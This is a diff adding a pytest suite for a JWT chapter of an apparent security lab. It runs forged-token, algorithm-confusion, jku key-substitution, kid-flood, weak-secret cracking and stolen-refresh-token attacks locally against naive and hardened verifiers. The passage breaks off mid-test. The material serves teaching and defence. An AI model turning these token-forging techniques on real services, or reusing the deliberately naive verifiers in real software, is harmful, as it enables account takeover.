@@ -1,0 +1,1203 @@
+"""What docs/chapters/jwt.md says, run."""
+
+import base64
+import contextlib
+import json
+import os
+import subprocess
+
+import httpx
+import pytest
+
+from lab import browser, node, process
+
+TOPIC = "jwt"
+SOURCE = "tests/chapters/test_jwt.py"
+ORIGIN = "https://shop.test"
+ANN = {"email": "ann@shop.test", "password": "correct horse"}
+NAMES = {
+    "JWT_ISSUER": "https://auth.shop.test",
+    "JWT_AUDIENCE": "https://api.shop.test",
+}
+SECRET = base64.urlsafe_b64encode(bytes(range(3, 35))).decode().rstrip("=")
+ENV = {**NAMES, "JWT_SECRET": SECRET, "ORIGINS": ORIGIN}
+ACCESS, REFRESH = "__Host-access", "__Host-refresh"
+
+
+def output(snippet: str, *args: str) -> list[str]:
+    return node.run(f"{TOPIC}/{snippet}", *args, timeout=60).stdout.splitlines()
+
+
+def javascript(source: str, timeout: float = 30) -> str:
+    done = node.evaluate(source, timeout)
+    assert done.code == 0, done.stderr
+    return done.stdout
+
+
+def uri(snippet: str) -> str:
+    return node.resolve(f"{TOPIC}/{snippet}").as_uri()
+
+
+def cookie(answer: httpx.Response, name: str) -> str:
+    """The value that an answer sets."""
+    for line in answer.headers.get_list("set-cookie"):
+        if line.startswith(f"{name}="):
+            return line.split(";")[0].removeprefix(f"{name}=")
+    raise AssertionError(f"no cookie {name}: {answer.status_code}")
+
+
+CHECK = """
+export const check = async (email, password) =>
+  email === 'ann@shop.test' && password === 'correct horse' ? { id: 'cus_ann' } : null;
+"""
+
+
+@pytest.fixture
+def shop(tmp_path):
+    """Serves shop.mjs (or the naive app) with one user; gives the server."""
+
+    @contextlib.contextmanager
+    def serve(snippet: str = "shop.mjs", env: dict | None = None, deps: str = ""):
+        path = tmp_path / f"served-{snippet}"
+        path.write_text(
+            f"import {{ createApp as create }} from '{uri(snippet)}';\n{CHECK}\n"
+            "export async function createApp(deps) {\n"
+            f"  return create({{ ...deps, check, {deps} }});\n}}\n"
+        )
+        with node.serve(path, env={**ENV, **(env or {})}) as server:
+            yield server
+
+    return serve
+
+
+class Tab:
+    """A browser's tab, as far as cookies go: ours have no host here, so httpx would
+    not send them by itself."""
+
+    def __init__(self, server, cookies: dict | None = None):
+        self._client = server.client(headers={"Origin": ORIGIN})
+        self.cookies = dict(cookies or {})
+
+    def ask(self, method: str, path: str, **options) -> httpx.Response:
+        sent = "; ".join(f"{name}={value}" for name, value in self.cookies.items())
+        headers = {"Cookie": sent, **options.pop("headers", {})}
+        answer = self._client.request(method, path, headers=headers, **options)
+        if answer.status_code == 204 and path in ("/login", "/refresh"):
+            self.cookies = {name: cookie(answer, name) for name in (ACCESS, REFRESH)}
+        return answer
+
+    def login(self) -> "Tab":
+        assert self.ask("POST", "/login", json=ANN).status_code == 204
+        return self
+
+    def status(self, method: str, path: str) -> int:
+        return self.ask(method, path).status_code
+
+    def __enter__(self):
+        return self
+
+    def __exit__(self, *_):
+        self._client.close()
+
+
+# --- what a token is ----------------------------------------------------------------
+
+
+@pytest.mark.claim("jwt/jwts-are-encrypted")
+def test_whoever_holds_a_token_reads_its_claims_without_a_key():
+    header, payload, verdict = output("token.mjs")
+    assert json.loads(header) == {"alg": "HS256", "typ": "JWT"}
+    assert json.loads(payload)["phone"] == "555-0100"
+    assert verdict == "signature right: true"
+
+
+LIBRARIES = """
+import * as jose from 'jose';
+import jwt from 'jsonwebtoken';
+import { createHmac, createSecretKey, generateKeyPairSync } from 'node:crypto';
+const b64 = (value) => Buffer.from(value).toString('base64url');
+const bytes = (text) => new TextEncoder().encode(text);
+async function said(promise) {
+  try { const found = await promise(); return found?.payload ?? found ?? 'nothing'; }
+  catch (error) { return `${error.constructor.name} ${error.code ?? error.message}`; }
+}
+"""
+
+
+@pytest.mark.claim("jwt/weak-secrets-are-refused")
+def test_both_libraries_sign_with_one_character():
+    seen = javascript(
+        LIBRARIES
+        + """
+    console.log(jwt.verify(jwt.sign({ sub: 'ann' }, 'a'), 'a').sub);
+    const token = await new jose.SignJWT({ sub: 'ann' })
+      .setProtectedHeader({ alg: 'HS256' }).sign(bytes('a'));
+    console.log((await jose.jwtVerify(token, bytes('a'))).payload.sub);
+    for (const none of [undefined, '']) {
+      console.log(await said(async () => jwt.sign({}, none)));
+    }
+    """
+    )
+    missing = "Error secretOrPrivateKey must have a value"
+    assert seen.splitlines() == ["ann", "ann", missing, missing]
+
+
+def test_rsa_keys_below_2048_bits_sign_nowhere_and_jsonwebtoken_verifies_them():
+    seen = javascript(
+        LIBRARIES
+        + """
+    const small = generateKeyPairSync('rsa', { modulusLength: 1024 });
+    const options = { algorithm: 'RS256' };
+    console.log(await said(async () => jwt.sign({}, small.privateKey, options)));
+    const token = jwt.sign({ sub: 'ann' }, small.privateKey,
+      { ...options, allowInsecureKeySizes: true });
+    console.log(jwt.verify(token, small.publicKey, { algorithms: ['RS256'] }).sub);
+    console.log(await said(() => jose.jwtVerify(token, small.publicKey)));
+    console.log(await said(() => new jose.SignJWT({}).setProtectedHeader({ alg: 'RS256' })
+      .sign(small.privateKey)));
+    """
+    )
+    refused, taken, *by_jose = seen.splitlines()
+    assert "minimum key size of 2048" in refused
+    assert taken == "ann"
+    assert len(by_jose) == 2 and all("2048 bits or larger" in text for text in by_jose)
+
+
+def test_ed25519_is_for_jose_alone_and_has_two_names_that_do_not_match():
+    seen = javascript(
+        LIBRARIES
+        + """
+    const { privateKey, publicKey } = generateKeyPairSync('ed25519');
+    console.log(await said(async () => jwt.sign({}, privateKey, { algorithm: 'EdDSA' })));
+    for (const alg of ['EdDSA', 'Ed25519']) {
+      const token = await new jose.SignJWT({ sub: 'ann' }).setProtectedHeader({ alg })
+        .sign(privateKey);
+      for (const algorithms of [['EdDSA'], ['Ed25519']]) {
+        const found = await said(() => jose.jwtVerify(token, publicKey, { algorithms }));
+        console.log(alg, algorithms[0], typeof found === 'string' ? found : found.sub);
+      }
+    }
+    """
+    )
+    refused, *rest = seen.splitlines()
+    assert "algorithm" in refused
+    assert rest == [
+        "EdDSA EdDSA ann",
+        "EdDSA Ed25519 JOSEAlgNotAllowed ERR_JOSE_ALG_NOT_ALLOWED",
+        "Ed25519 EdDSA JOSEAlgNotAllowed ERR_JOSE_ALG_NOT_ALLOWED",
+        "Ed25519 Ed25519 ann",
+    ]
+
+
+@pytest.mark.claim("jwt/expires-in-is-in-seconds")
+def test_the_number_3600_is_an_hour_and_the_text_3600_is_three_seconds():
+    seen = javascript(
+        LIBRARIES
+        + """
+    for (const expiresIn of [3600, '3600', '1h', '3600s']) {
+      const { exp, iat } = jwt.decode(jwt.sign({}, 'a', { expiresIn }));
+      console.log(exp - iat);
+    }
+    const builder = new jose.SignJWT({});
+    console.log(await said(async () => builder.setExpirationTime('3600')));
+    """
+    )
+    assert seen.splitlines() == [
+        "3600", "3", "3600", "3600",
+        "TypeError Invalid time period format",
+    ]  # fmt: skip
+
+
+# --- forged tokens ------------------------------------------------------------------
+
+
+def matrix() -> dict[str, list[bool]]:
+    """name -> taken by naive, hardened jsonwebtoken, jose"""
+    found = {}
+    for line in output("matrix.mjs"):
+        name, cells = line[:18].strip(), line[18:].split()
+        found[name] = [cell == "TAKEN" for cell in cells]
+    return found
+
+
+def listed() -> dict[str, tuple[str, bool]]:
+    """name -> what it forges, whether the naive verifier takes it: the documented list"""
+    text = javascript(
+        """
+    import { FORGERIES } from './jwt/forgeries.mjs';
+    console.log(JSON.stringify(Object.values(FORGERIES).flat()));
+    """
+    )
+    return {name: (forges, taken) for name, forges, taken, _ in json.loads(text)}
+
+
+@pytest.mark.claim("jwt/verify-checks-everything")
+def test_every_forged_token_has_the_fate_that_the_list_says():
+    seen, forgeries = matrix(), listed()
+    genuine = {name: row for name, row in seen.items() if name.startswith("genuine")}
+    assert len(genuine) == 3 and all(all(row) for row in genuine.values())
+    assert len(forgeries) >= 30 and seen.keys() - genuine.keys() == forgeries.keys()
+    for name, (_, taken) in forgeries.items():
+        assert seen[name] == [taken, False, False], name
+    assert sum(taken for _, taken in forgeries.values()) > len(forgeries) / 2
+
+
+@pytest.mark.claim("jwt/none-and-confusion")
+def test_no_algorithm_and_algorithm_confusion_are_refused_without_any_option():
+    seen = matrix()
+    old = ("none", "None", "none, a signature", "none, two parts", "no alg")
+    for name in (*old, "HMAC by public PEM", "HMAC by public DER"):
+        assert seen[name] == [False] * 3, name
+    for name in ("HS384", "HS512", "RS512", "PS256"):  # what is left to pin
+        assert seen[name] == [True, False, False], name
+
+
+@pytest.mark.claim("jwt/list-of-texts")
+def test_a_pinned_library_still_takes_other_spellings_of_a_token():
+    seen = javascript(
+        LIBRARIES
+        + """
+    const { privateKey, publicKey } = generateKeyPairSync('rsa', { modulusLength: 2048 });
+    const algorithms = ['RS256'];
+    const token = jwt.sign({ sub: 'ann' }, privateKey, { algorithm: 'RS256' });
+    const spelt = 'AQgw'; // each ends in four zero bits; the next letter is the same bytes
+    if (!spelt.includes(token.at(-1))) throw new Error(token.at(-1));
+    const other = token.slice(0, -1) + { A: 'B', Q: 'R', g: 'h', w: 'x' }[token.at(-1)];
+    console.log(jwt.verify(other, publicKey, { algorithms }).sub);
+    console.log((await jose.jwtVerify(other, publicKey, { algorithms })).payload.sub);
+    console.log((await jose.jwtVerify(`${token}\\n`, publicKey, { algorithms })).payload.sub);
+    console.log(await said(async () => jwt.verify(`${token}\\n`, publicKey, { algorithms })));
+    """
+    )
+    assert seen.splitlines() == [
+        "ann", "ann", "ann", "JsonWebTokenError invalid token",
+    ]  # fmt: skip
+
+
+@pytest.mark.claim("jwt/audience-regex")
+def test_an_audience_pattern_without_anchors_matches_somebody_elses_host():
+    seen = javascript(
+        LIBRARIES
+        + """
+    const token = jwt.sign({ aud: 'https://api.shop.test.evil.test' }, 'a');
+    const taken = (audience) => {
+      try { return Boolean(jwt.verify(token, 'a', { audience })); } catch { return false; }
+    };
+    console.log(taken(/api\\.shop\\.test/), taken(/^https:\\/\\/api\\.shop\\.test$/),
+      taken('https://api.shop.test'), taken(undefined), taken(''));
+    """
+    )
+    # not set, or set to nothing, it is not checked at all
+    assert seen.split() == ["true", "false", "false", "true", "true"]
+
+
+def test_a_verifier_cannot_be_made_without_what_it_is_to_check():
+    seen = javascript(
+        """
+    import { createVerifier as jose } from './jwt/jose.mjs';
+    import { createVerifier as hardened } from './jwt/verify.mjs';
+    const whole = { keys: new Map(), issuer: 'a', audience: 'b', algorithms: ['HS256'] };
+    for (const create of [hardened, jose]) {
+      for (const change of [{}, { issuer: '' }, { audience: undefined }, { algorithms: [] }]) {
+        try { create({ ...whole, ...change }); console.log('made'); }
+        catch (error) { console.log(error.message.includes('what is not set passes')); }
+      }
+    }
+    """
+    )
+    # jsonwebtoken's takes the algorithm from the key, so it needs no list
+    assert seen.split() == ["made", "true", "true", "made", "made", *["true"] * 3]
+
+
+def test_a_payload_that_is_a_text_has_a_subject_of_sorts():
+    seen = javascript(
+        LIBRARIES
+        + """
+    const token = jwt.sign('cus_ann', 'a');
+    const claims = jwt.verify(token, 'a', { algorithms: ['HS256'] });
+    console.log(claims, typeof claims.sub);
+    console.log(await said(() => jose.jwtVerify(token, bytes('a'))));
+    """
+    )
+    assert seen.splitlines() == ["cus_ann function", "JWTInvalid ERR_JWT_INVALID"]
+
+
+def test_a_token_for_another_service_opens_the_naive_one_only():
+    seen = javascript(
+        """
+    import { createSecretKey, randomBytes } from 'node:crypto';
+    import { createTokens } from './jwt/tokens.mjs';
+    import { createTokens as withJose, createVerifier as jose, fromMap } from './jwt/jose.mjs';
+    import { createVerifier as naive } from './jwt/verify.naive.mjs';
+    import { createVerifier as hardened } from './jwt/verify.mjs';
+    const secret = createSecretKey(randomBytes(32));
+    const key = { kid: 'main', alg: 'HS256', private: secret, public: secret };
+    const keys = new Map([[key.kid, key]]);
+    const issuer = 'https://auth.shop.test';
+    const [files, api] = ['https://files.shop.test', 'https://api.shop.test'];
+    const algorithms = ['HS256'];
+    for (const create of [createTokens, withJose]) {
+      const issue = create({ key, issuer, audience: files });
+      const token = await issue({ id: 'cus_ann', sid: 's-1' });
+      for (const audience of [files, api]) {
+        const of = { keys, issuer, audience };
+        const seen = [naive(of)(token), hardened(of)(token),
+          await jose({ ...of, keys: fromMap(keys), algorithms })(token)];
+        console.log(seen.map((claims) => claims?.sub ?? null).join());
+      }
+    }
+    """
+    )
+    own, replayed = "cus_ann,cus_ann,cus_ann", "cus_ann,,"
+    assert seen.splitlines() == [own, replayed] * 2
+
+
+@pytest.mark.claim("jwt/clocks-agree")
+def test_a_clock_that_is_some_seconds_off_needs_leeway_both_ways():
+    seen = javascript(
+        """
+    import { createSecretKey, randomBytes } from 'node:crypto';
+    import { createTokens } from './jwt/tokens.mjs';
+    import { createVerifier as jose, fromMap } from './jwt/jose.mjs';
+    import { createVerifier as hardened } from './jwt/verify.mjs';
+    const secret = createSecretKey(randomBytes(32));
+    const key = { kid: 'main', alg: 'HS256', private: secret, public: secret };
+    const keys = new Map([[key.kid, key]]);
+    const names = { issuer: 'https://auth.shop.test', audience: 'https://api.shop.test' };
+    const begin = Date.UTC(2026, 0, 1);
+    const token = createTokens({ ...names, key, now: () => begin })({ id: 'ann' });
+    const algorithms = ['HS256'];
+    for (const create of [hardened,
+      (deps) => jose({ ...deps, keys: fromMap(keys), algorithms })]) {
+      for (const leeway of [0, 5]) {
+        const seen = [];
+        for (const seconds of [-6, -4, 0, 299, 301, 306]) {
+          const now = () => begin + seconds * 1000;
+          const verify = create({ ...names, keys, leeway, now });
+          seen.push((await verify(token)) ? 1 : 0);
+        }
+        console.log(leeway, seen.join(''));
+      }
+    }
+    """
+    )
+    assert seen.splitlines() == ["0 001100", "5 011110"] * 2
+
+
+# --- the secret ---------------------------------------------------------------------
+
+
+@pytest.mark.claim("jwt/hs256-is-insecure")
+def test_a_secret_from_a_small_list_is_found_and_makes_the_finder_anybody():
+    assert output("cracked.mjs") == ["guess 72035: Shop2026", "now I am cus_admin"]
+
+
+@pytest.mark.claim("jwt/unset-secret-fails-at-boot")
+def test_an_unset_secret_fails_at_the_first_login_and_with_a_check_before_listening(shop):
+    with shop("app.naive.mjs", {"JWT_SECRET": ""}) as server, server.client() as c:
+        assert c.post("/login", json=ANN).status_code == 500  # it listens, all is well
+    with pytest.raises(node.NodeError, match=r"before it listened[\s\S]*JWT_SECRET"):
+        with shop(env={"JWT_SECRET": ""}):
+            pass
+
+
+@pytest.mark.parametrize(
+    ("env", "missing"),
+    [
+        ({"JWT_SECRET": "changeme-changeme-changeme-changeme"}, None),
+        ({"JWT_SECRET": "correct horse battery staple, and more of it"}, "base64url"),
+        ({"JWT_SECRET": SECRET[:40]}, "32 bytes"),
+        ({"JWT_SECRET": "A" * 43}, "repeats"),
+        ({"JWT_AUDIENCE": "shop"}, "JWT_AUDIENCE"),
+        ({}, None),
+    ],
+)
+def test_the_configuration_names_what_is_wrong(env, missing):
+    seen = javascript(
+        f"""
+    import {{ readConfig }} from './jwt/config.mjs';
+    try {{
+      const {{ key, issuer }} = readConfig({json.dumps({**ENV, **env})});
+      console.log(key.alg, issuer);
+    }} catch (error) {{ console.log(error.message); }}
+    """
+    )
+    if env and missing is None:
+        missing = "JWT_SECRET"
+    assert (missing in seen) if missing else seen == "HS256 https://auth.shop.test\n"
+
+
+# --- errors -------------------------------------------------------------------------
+
+BROKEN = [
+    "x", "a.b.c", "..", "null.null.null", "é", "x" * 5000,
+    # the header is right, the payload is no JSON: nothing of it is signed
+    "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.bm9uc2Vuc2U.AAAA",
+]  # fmt: skip
+
+
+@pytest.mark.claim("jwt/every-fault-is-its-own-error")
+def test_an_unsigned_token_makes_jsonwebtoken_throw_what_is_not_its_error():
+    seen = javascript(
+        LIBRARIES
+        + f"""
+    const token = '{BROKEN[-1]}';
+    try {{ jwt.verify(token, 'a', {{ algorithms: ['HS256'] }}); }}
+    catch (error) {{ console.log(error.name, error instanceof jwt.JsonWebTokenError); }}
+    const {{ privateKey, publicKey }} = generateKeyPairSync('ec', {{ namedCurve: 'P-256' }});
+    const real = jwt.sign({{}}, privateKey, {{ algorithm: 'ES256' }});
+    try {{ jwt.verify(real.slice(0, -4), publicKey, {{ algorithms: ['ES256'] }}); }}
+    catch (error) {{ console.log(error.name, error instanceof jwt.JsonWebTokenError); }}
+    console.log(await said(() => jose.jwtVerify(token, bytes('a'))));
+    """
+    )
+    assert seen.splitlines() == [
+        "SyntaxError false",
+        "TypeError false",
+        "JWSSignatureVerificationFailed ERR_JWS_SIGNATURE_VERIFICATION_FAILED",
+    ]
+
+
+@pytest.mark.parametrize(
+    ("snippet", "codes"), [("app.naive.mjs", {500}), ("shop.mjs", {401})]
+)
+def test_broken_tokens_are_500_in_the_naive_app_and_401_in_the_other(
+    shop, snippet, codes
+):
+    with shop(snippet) as server, server.client() as c:
+        seen = set()
+        for token in BROKEN:
+            headers = {"Authorization": f"Bearer {token}".encode("latin-1")}
+            seen.add(c.get("/me", headers=headers).status_code)
+            headers = {"Cookie": f"token={token}; {ACCESS}={token}".encode("latin-1")}
+            seen.add(c.get("/me", headers=headers).status_code)
+        seen.add(c.get("/me").status_code)
+    assert seen == codes
+
+
+# --- keys ---------------------------------------------------------------------------
+
+ISSUER = """
+import { createServer } from 'node:http';
+import { once } from 'node:events';
+import { generateKeyPair, exportJWK, SignJWT } from 'jose';
+import { createVerifier, createTokens } from './jwt/jose.mjs';
+import { createKeys } from './jwt/keys.mjs';
+import { createKeys as naiveKeys } from './jwt/keys.naive.mjs';
+let time = Date.now();
+Date.now = () => time; // ours, and jose's
+const names = { issuer: 'https://auth.shop.test', audience: 'https://api.shop.test' };
+async function issuer(kid) {
+  const { privateKey, publicKey } = await generateKeyPair('ES256');
+  const jwk = { ...(await exportJWK(publicKey)), kid, alg: 'ES256' };
+  const it = { asked: 0, status: 200, keys: [jwk] };
+  const server = createServer((req, res) => {
+    it.asked += 1;
+    res.statusCode = it.status;
+    res.end(JSON.stringify({ keys: it.keys }));
+  }).listen(0, '127.0.0.1');
+  await once(server, 'listening');
+  it.url = `http://127.0.0.1:${server.address().port}/jwks`;
+  it.stop = () => { server.close(); server.closeAllConnections(); };
+  const key = { kid, alg: 'ES256', private: privateKey };
+  it.issue = createTokens({ ...names, key });
+  it.forge = (header) => new SignJWT({ sub: 'cus_admin' })
+    .setProtectedHeader({ alg: 'ES256', typ: 'at+jwt', kid, ...header })
+    .setIssuer(names.issuer).setAudience(names.audience)
+    .setIssuedAt().setExpirationTime('5m').sign(privateKey);
+  return it;
+}
+const ours = await issuer('ours');
+const verifier = (keys) => createVerifier({ ...names, keys, algorithms: ['ES256'] });
+const sub = async (verify, token) => {
+  try { return (await verify(token))?.sub ?? null; } catch (error) { return error.status; }
+};
+"""
+
+
+@pytest.mark.claim("jwt/kid-is-harmless")
+def test_a_flood_of_unknown_kids_is_a_flood_of_fetches_unless_it_cools_down():
+    seen = javascript(
+        ISSUER
+        + """
+    const mallory = await issuer('x');
+    for (const create of [naiveKeys, createKeys]) {
+      ours.asked = 0;
+      const verify = verifier(create({ url: ours.url }));
+      const genuine = await ours.issue({ id: 'cus_ann' });
+      await sub(verify, genuine);
+      const forged = await Promise.all(Array.from({ length: 100 }, (_, i) =>
+        mallory.forge({ kid: `unknown ${i}` })));
+      let taken = 0;
+      for (const token of forged) taken += (await sub(verify, token)) !== null;
+      console.log(ours.asked, taken, await sub(verify, genuine));
+    }
+    ours.stop();
+    mallory.stop();
+    """
+    )
+    assert seen.splitlines() == ["101 0 cus_ann", "1 0 cus_ann"]
+
+
+def test_the_cooldown_of_jose_alone_is_of_no_use_while_the_issuer_fails():
+    seen = javascript(
+        ISSUER
+        + """
+    import { createRemoteJWKSet } from 'jose';
+    const mallory = await issuer('x');
+    const plain = ({ url }) => createRemoteJWKSet(new URL(url));
+    for (const create of [plain, createKeys]) {
+      Object.assign(ours, { asked: 0, status: 200 });
+      const verify = verifier(create({ url: ours.url }));
+      const genuine = await ours.issue({ id: 'cus_ann' });
+      const forged = await mallory.forge({ kid: 'unknown' });
+      await sub(verify, genuine);
+      time += 31_000; // the cooldown is over, the cache is not
+      ours.status = 500;
+      for (let i = 0; i < 50; i += 1) await sub(verify, forged);
+      console.log(ours.asked, await sub(verify, genuine));
+    }
+    ours.stop();
+    mallory.stop();
+    """
+    )
+    assert seen.splitlines() == ["51 cus_ann", "2 cus_ann"]
+
+
+def test_an_unknown_kid_is_looked_up_again_after_the_cooldown():
+    seen = javascript(
+        ISSUER
+        + """
+    const next = await issuer('next');
+    const verify = verifier(createKeys({ url: ours.url }));
+    console.log(await sub(verify, await ours.issue({ id: 'cus_ann' })), ours.asked);
+    ours.keys.push(...next.keys); // a new key, published
+    console.log(await sub(verify, await next.issue({ id: 'cus_ann' })), ours.asked);
+    time += 31_000;
+    console.log(await sub(verify, await next.issue({ id: 'cus_ann' })), ours.asked);
+    ours.stop();
+    next.stop();
+    """
+    )
+    assert seen.splitlines() == ["cus_ann 1", "null 1", "cus_ann 2"]
+
+
+def test_a_token_without_a_kid_neither_passes_nor_stops_the_next_fetch():
+    seen = javascript(
+        ISSUER
+        + """
+    const next = await issuer('next');
+    ours.keys.push({ ...next.keys[0], kid: 'other' }); // several would do
+    const verify = verifier(createKeys({ url: ours.url }));
+    const forged = await next.forge({ kid: undefined });
+    console.log(await sub(verify, forged), ours.asked);
+    ours.keys.push(...next.keys);
+    for (let i = 0; i < 3; i += 1) {
+      time += 31_000;
+      await sub(verify, forged);
+    }
+    const genuine = await next.issue({ id: 'cus_ann' });
+    console.log(await sub(verify, genuine), ours.asked);
+    ours.stop();
+    next.stop();
+    """
+    )
+    assert seen.splitlines() == ["null 1", "cus_ann 2"]
+
+
+def test_a_jku_header_chooses_the_naive_verifiers_key_and_whom_it_asks():
+    seen = javascript(
+        ISSUER
+        + """
+    const mallory = await issuer('mallorys');
+    for (const create of [naiveKeys, createKeys]) {
+      mallory.asked = 0;
+      const verify = verifier(create({ url: ours.url }));
+      await sub(verify, await ours.issue({ id: 'cus_ann' }));
+      const token = await mallory.forge({ jku: mallory.url });
+      console.log(await sub(verify, token), mallory.asked);
+    }
+    ours.stop();
+    mallory.stop();
+    """
+    )
+    assert seen.splitlines() == ["cus_admin 1", "null 0"]
+
+
+def test_an_issuer_that_is_away_is_503_before_the_first_key_and_nothing_after_it():
+    seen = javascript(
+        ISSUER
+        + """
+    import { createAuthenticate } from './jwt/authenticate.mjs';
+    const token = await ours.issue({ id: 'cus_ann' });
+    const verify = verifier(createKeys({ url: ours.url }));
+    ours.status = 500;
+    console.log(await sub(verify, token));
+    const authenticate = createAuthenticate({ verify });
+    const req = { headers: { authorization: `bearer ${token}` } };
+    console.log(await authenticate(req).catch((error) => error.status));
+    time += 31_000;
+    ours.status = 200;
+    console.log((await authenticate(req)).id);
+    ours.stop();
+    time += 240_000; // the issuer is down for good
+    console.log((await authenticate(req)).id, ours.asked);
+    """
+    )
+    assert seen.splitlines() == ["503", "503", "cus_ann", "cus_ann 2"]
+
+
+def test_a_cache_that_ran_out_while_the_issuer_is_down_is_used_on():
+    seen = javascript(
+        ISSUER
+        + """
+    import { createRemoteJWKSet } from 'jose';
+    const plain = ({ url }) => createRemoteJWKSet(new URL(url));
+    for (const create of [plain, createKeys]) {
+      ours.status = 200;
+      const verify = verifier(create({ url: ours.url }));
+      await sub(verify, await ours.issue({ id: 'cus_ann' }));
+      time += 601_000; // past cacheMaxAge
+      ours.status = 500;
+      const token = await ours.issue({ id: 'cus_ann' });
+      console.log(await sub(verify, token));
+    }
+    ours.stop();
+    """
+    )
+    assert seen.splitlines() == ["null", "cus_ann"]
+
+
+@pytest.mark.claim("jwt/rotation-logs-out")
+def test_a_key_that_was_published_ahead_takes_over_without_a_refusal():
+    naive, staged = output("rotate.mjs")
+    assert naive.startswith("replaced at once: ") and " 0 of" not in naive
+    assert staged == "published ahead: 0 of 2400 requests refused"
+
+
+# --- access and refresh -------------------------------------------------------------
+
+
+@pytest.fixture(params=["memory", "redis"])
+def stored(request, redis_server):
+    """The environment of each store."""
+    return {} if request.param == "memory" else {"REDIS_URL": redis_server.url}
+
+
+def test_login_refresh_and_logout_by_cookie(shop, stored):
+    with shop(env=stored) as server, Tab(server) as tab:
+        assert tab.status("GET", "/me") == 401
+        assert tab.ask("POST", "/login", json={**ANN, "password": "x"}).status_code == 401
+        assert tab.ask("POST", "/login", json={}).status_code == 400
+        answer = tab.ask("POST", "/login", json=ANN)
+        for line in answer.headers.get_list("set-cookie"):
+            flags = line.lower().split("; ")[1:]
+            assert {"httponly", "secure", "samesite=strict", "path=/"} <= set(flags)
+            assert not any(flag.startswith("domain") for flag in flags)
+        assert answer.headers["cache-control"] == "no-store"
+        assert tab.ask("GET", "/me").json() == {"id": "cus_ann"}
+        bearer = {"Authorization": f"Bearer {tab.cookies[ACCESS]}"}
+        with server.client(headers=bearer) as other:
+            assert other.get("/me").json() == {"id": "cus_ann"}
+
+        before = dict(tab.cookies)
+        assert tab.status("POST", "/refresh") == 204
+        assert before[REFRESH] != tab.cookies[REFRESH]
+        assert tab.status("POST", "/orders") == 201
+        assert tab.status("POST", "/logout") == 204
+        # what the browser forgot would be of no use either
+        assert tab.status("GET", "/me") == 401
+        assert tab.status("POST", "/refresh") == 401
+
+
+def test_a_client_that_is_no_browser_shows_a_bearer_and_needs_no_origin(shop):
+    with shop() as server, Tab(server) as tab:
+        bearer = {"Authorization": f"Bearer {tab.login().cookies[ACCESS]}"}
+        cookies = "; ".join(f"{name}={value}" for name, value in tab.cookies.items())
+        for headers, status in (
+            (bearer, 201),
+            ({"Cookie": cookies}, 403),
+            ({"Cookie": cookies, "Authorization": "Basic YTpi"}, 403),
+            ({"Cookie": cookies, "Origin": "https://evil.test"}, 403),
+            ({"Cookie": cookies, "Origin": "null"}, 403),
+            ({"Cookie": cookies, "Origin": ORIGIN}, 201),
+            ({"Origin": ORIGIN}, 401),
+        ):
+            with server.client(headers=headers) as c:
+                assert c.post("/orders").status_code == status, headers
+
+
+def test_a_revocation_outlives_every_token_that_a_verifier_would_take(redis_server):
+    seen = javascript(
+        f"""
+    import {{ Redis }} from 'ioredis';
+    import {{ createRevocations }} from './jwt/revocations.mjs';
+    const redis = new Redis('{redis_server.url}');
+    for (const of of [{{ redis }}, {{}}]) {{
+      const {{ revoke, revoked }} = createRevocations(of);
+      await revoke('s-1');
+      console.log(await revoked({{ sid: 's-1' }}), await revoked({{ sid: 's-2' }}));
+    }}
+    console.log(await redis.ttl('revoked:s-1') > 300); // lifetime, and leeway
+    redis.disconnect();
+    """
+    )
+    assert seen.splitlines() == ["true false", "true false", "true"]
+
+
+@pytest.mark.claim("jwt/rotation-is-enough")
+def test_a_stolen_refresh_token_is_the_thiefs_for_good_or_ends_the_session():
+    thief_first = """
+    import { randomBytes } from 'node:crypto';
+    import { createSessions as naive } from './jwt/refresh.naive.mjs';
+    import { createSessions } from './jwt/refresh.mjs';
+    import { memoryStore } from './jwt/stores.mjs';
+    let time = 0;
+    const told = [];
+    const sessions = createSessions({ store: memoryStore(), secret: randomBytes(32),
+      now: () => time, reused: (user) => told.push(user) });
+    for (const { start, rotate } of [naive(), sessions]) {
+      const stolen = (await start('cus_ann')).token;
+      const other = (await start('cus_ann')).token;
+      let thief = (await rotate(stolen)).token;
+      time += 60_000;
+      const owner = await rotate(stolen);
+      const after = [];
+      for (let i = 0; i < 3; i += 1) {
+        thief = (await rotate(thief))?.token;
+        after.push(Boolean(thief));
+        if (!thief) break;
+        time += 60_000;
+      }
+      console.log(owner, after.join(), Boolean(await rotate(other)), told.join());
+    }
+    """
+    assert javascript(thief_first).splitlines() == [
+        "null true,true,true true ",
+        "null false true cus_ann",
+    ]
+
+
+def test_the_owner_who_refreshes_first_ends_the_session_by_the_thiefs_attempt(
+    shop, stored
+):
+    with shop(env=stored, deps="") as server, Tab(server) as owner:
+        owner.login()
+        with Tab(server, owner.cookies) as thief:
+            assert owner.status("POST", "/refresh") == 204
+            assert owner.status("POST", "/refresh") == 204
+            assert thief.status("POST", "/refresh") == 401  # two behind: no tab is
+            assert owner.status("POST", "/refresh") == 401
+            # the access tokens of the session went with it
+            assert owner.status("GET", "/me") == 401
+            assert owner.login().status("GET", "/me") == 200
+
+
+@pytest.mark.claim("jwt/tabs-trip-detection")
+def test_twenty_tabs_that_refresh_at_once_all_go_on(redis_server):
+    race = f"""
+    import {{ Redis }} from 'ioredis';
+    import {{ randomBytes }} from 'node:crypto';
+    import {{ createSessions as naive }} from './jwt/refresh.naive.mjs';
+    import {{ createSessions }} from './jwt/refresh.mjs';
+    import {{ memoryStore, redisStore }} from './jwt/stores.mjs';
+    const redis = new Redis('{redis_server.url}');
+    const secret = randomBytes(32);
+    const told = [];
+    const make = (store, grace) =>
+      createSessions({{ store, secret, grace, reused: () => told.push(1) }});
+    for (const sessions of [naive(), make(memoryStore(), 0), make(redisStore(redis), 0),
+      make(memoryStore()), make(redisStore(redis))]) {{
+      const {{ token }} = await sessions.start('cus_ann');
+      const tabs = await Promise.all(
+        Array.from({{ length: 20 }}, () => sessions.rotate(token)));
+      const kept = tabs.filter(Boolean);
+      const next = await sessions.rotate(kept[0].token);
+      console.log(kept.length, new Set(kept.map((tab) => tab.token)).size, next !== null,
+        told.length);
+      told.length = 0;
+    }}
+    redis.disconnect();
+    """
+    assert javascript(race).splitlines() == [
+        "1 1 true 0",  # nineteen tabs are logged out
+        "1 1 false 1",  # all twenty, and an alarm
+        "1 1 false 1",
+        "20 1 true 0",  # nobody; all hold the same next token
+        "20 1 true 0",
+    ]
+
+
+def test_a_grace_ends_and_a_thief_within_it_is_found_one_refresh_later(stored):
+    redis = stored.get("REDIS_URL", "")
+    seen = javascript(
+        f"""
